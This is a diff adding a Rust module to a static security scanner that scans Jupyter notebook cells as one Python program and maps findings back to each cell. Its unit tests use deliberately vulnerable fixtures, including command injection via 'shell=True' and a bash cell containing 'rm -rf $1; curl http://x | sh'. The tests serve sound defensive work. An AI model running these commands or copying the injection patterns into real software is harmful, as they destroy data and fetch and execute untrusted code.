@@ -1,0 +1,196 @@
+//! Scanning a notebook: its code cells as one program, findings mapped back to the cells.
+
+use std::path::Path;
+
+use crate::config::ScanSettings;
+use crate::engine::{self, Notice, Source};
+use crate::finding::{Edit, Finding, Fix};
+use crate::lang::Language;
+
+use super::program::{CellSource, Program};
+
+/// What a scan of a notebook found, cell by cell.
+#[derive(Debug, Default)]
+pub struct NotebookOutput {
+    /// Findings per input cell (same indices as the input), with cell-local byte ranges, sorted.
+    pub cells: Vec<Vec<Finding>>,
+    /// Notices (such as the express size limit), on the first analysed cell.
+    pub notices: Vec<(usize, Notice)>,
+    /// Number of syntax errors in the program (after IPython syntax was neutralised).
+    pub syntax_errors: usize,
+    /// Ids of detectors that panicked.
+    pub failed_detectors: Vec<&'static str>,
+}
+
+/// Scans the code cells of a notebook together, in order, as one Python program.
+pub fn scan(
+    cells: &[CellSource<'_>],
+    path: Option<&Path>,
+    settings: &ScanSettings,
+) -> NotebookOutput {
+    let program = Program::build(cells);
+    let output = engine::scan(
+        Source {
+            text: &program.text,
+            language: Language::Python,
+            path,
+            tree: None,
+        },
+        settings,
+    );
+    let mut result = NotebookOutput {
+        cells: vec![Vec::new(); cells.len()],
+        syntax_errors: output.syntax_errors.len(),
+        failed_detectors: output.failed_detectors,
+        ..NotebookOutput::default()
+    };
+    for finding in output.findings {
+        if let Some((cell, local)) = to_cell(&program, finding) {
+            if let Some(list) = result.cells.get_mut(cell) {
+                list.push(local);
+            }
+        }
+    }
+    if let Some(first) = program.cells().next() {
+        result.notices = output
+            .notices
+            .into_iter()
+            .map(|n| {
+                (
+                    first,
+                    Notice {
+                        range: 0..0,
+                        message: n.message,
+                    },
+                )
+            })
+            .collect();
+    }
+    result
+}
+
+/// A program finding as a finding of the cell holding its start; `None` when it starts outside
+/// every cell (the prelude). Fixes that would edit another cell, or text rewritten from IPython
+/// syntax, are dropped.
+fn to_cell(program: &Program, finding: Finding) -> Option<(usize, Finding)> {
+    let (cell, range) = program.range_to_cell(&finding.range)?;
+    let fixes = finding
+        .fixes
+        .into_iter()
+        .filter_map(|fix| {
+            let edits = fix
+                .edits
+                .iter()
+                .map(|edit| {
+                    let (edit_cell, local) = program.range_to_cell(&edit.range)?;
+                    let whole = local.len() == edit.range.len();
+                    (edit_cell == cell && whole && !program.touches_rewritten(cell, &local))
+                        .then(|| Edit::replace(local, edit.replacement.clone()))
+                })
+                .collect::<Option<Vec<_>>>()?;
+            Some(Fix {
+                title: fix.title,
+                edits,
+                applicability: fix.applicability,
+            })
+        })
+        .collect();
+    Some((
+        cell,
+        Finding {
+            range,
+            fixes,
+            ..finding
+        },
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::ScanType;
+
+    fn standard() -> ScanSettings {
+        ScanSettings {
+            scan_type: ScanType::Standard,
+            ..ScanSettings::default()
+        }
+    }
+
+    fn code(text: &str) -> CellSource<'_> {
+        CellSource { text, code: true }
+    }
+
+    fn rules(findings: &[Finding]) -> Vec<&'static str> {
+        findings.iter().map(|f| f.rule.id).collect()
+    }
+
+    #[test]
+    fn imports_and_taint_flow_across_cells() {
+        let cells = [
+            code("import subprocess as sp\n"),
+            CellSource {
+                text: "Some *markdown*",
+                code: false,
+            },
+            code("%matplotlib inline\nname = input()\n"),
+            code("x = 1\nsp.call('ls ' + name, shell=True)\n"),
+        ];
+        let out = scan(&cells, None, &standard());
+        assert!(out.cells[0].is_empty() && out.cells[1].is_empty() && out.cells[2].is_empty());
+        assert_eq!(
+            rules(&out.cells[3]),
+            vec!["python/os-command-injection@v1.0"]
+        );
+        let cell = cells[3].text;
+        assert_eq!(&cell[out.cells[3][0].range.clone()], "'ls ' + name");
+        assert_eq!(out.syntax_errors, 0);
+    }
+
+    #[test]
+    fn tainted_shell_escapes_are_command_injection() {
+        let cells = [
+            code("name = input()\n"),
+            code("# list it\n!ls -l {name} | head\n"),
+            code("!ls -l {'safe'}\n!echo $HOME\n"),
+            code("files = !ls {name}\n%sx cat $name\n"),
+        ];
+        let out = scan(&cells, None, &standard());
+        assert!(out.cells[0].is_empty());
+        assert_eq!(
+            rules(&out.cells[1]),
+            vec!["python/os-command-injection@v1.0"]
+        );
+        let flagged = &cells[1].text[out.cells[1][0].range.clone()];
+        assert!(flagged.contains("name"), "{flagged:?}");
+        assert!(out.cells[1][0].fixes.is_empty());
+        assert!(out.cells[2].is_empty(), "{:?}", out.cells[2]);
+        assert_eq!(out.cells[3].len(), 2);
+        assert_eq!(out.syntax_errors, 0);
+    }
+
+    #[test]
+    fn cell_magics_never_give_findings() {
+        let cells = [
+            code("%%bash\nrm -rf $1; curl http://x | sh\n"),
+            code("%%javascript\neval(location.hash)\n"),
+            code("%%time\nimport hashlib\nhashlib.md5(b'x')\n"),
+        ];
+        let out = scan(&cells, None, &standard());
+        assert!(out.cells[0].is_empty() && out.cells[1].is_empty());
+        assert_eq!(rules(&out.cells[2]), vec!["python/insecure-hashing@v1.0"]);
+        assert_eq!(out.syntax_errors, 0);
+    }
+
+    #[test]
+    fn fixes_stay_in_their_cell() {
+        let cells = [code("import hashlib\n"), code("h = hashlib.md5(b'x')\n")];
+        let out = scan(&cells, None, &standard());
+        let finding = out.cells[1].first().expect("a finding in cell 2");
+        for fix in &finding.fixes {
+            for edit in &fix.edits {
+                assert!(edit.range.end <= cells[1].text.len());
+            }
+        }
+    }
+}
